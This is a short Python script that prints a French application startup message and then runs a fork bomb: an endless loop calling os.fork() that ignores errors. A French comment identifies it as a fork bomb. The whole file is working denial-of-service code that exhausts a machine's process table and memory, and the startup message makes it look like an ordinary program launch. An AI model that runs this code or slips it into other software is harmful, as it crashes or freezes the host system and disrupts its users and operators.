import os

print("démarrage de l'application")
# Bombe fork : chaque processus se duplique sans fin, et aucun ne rend jamais sa place.
while True:
    try:
        os.fork()
    except OSError:
        pass
